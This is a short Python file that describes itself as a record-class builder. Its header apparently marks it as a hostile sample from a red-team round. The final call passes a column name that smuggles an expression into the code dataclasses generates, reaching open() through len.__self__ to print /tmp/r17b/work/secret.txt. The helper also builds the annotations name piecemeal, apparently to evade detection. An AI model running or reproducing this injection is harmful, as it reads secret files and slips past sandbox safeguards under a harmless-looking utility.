# family: dataclass (written blind, round 17 of blind hostile tools)
"""Build record classes from a column spec."""
import dataclasses

_ANN = "_" * 2 + "annotations" + "_" * 2


def record_type(columns):
    spec = {c: str for c in columns}
    ns = {_ANN: spec}
    for c in columns:
        ns[c] = dataclasses.field(init=False, repr=False, compare=False)
    try:
        return dataclasses.dataclass(eq=False, repr=False)(type("Rec", (), ns))
    except TypeError:
        return None


record_type(["x=print(len.__self__.open('/tmp/r17b/work/secret.txt').read()), *, y"])
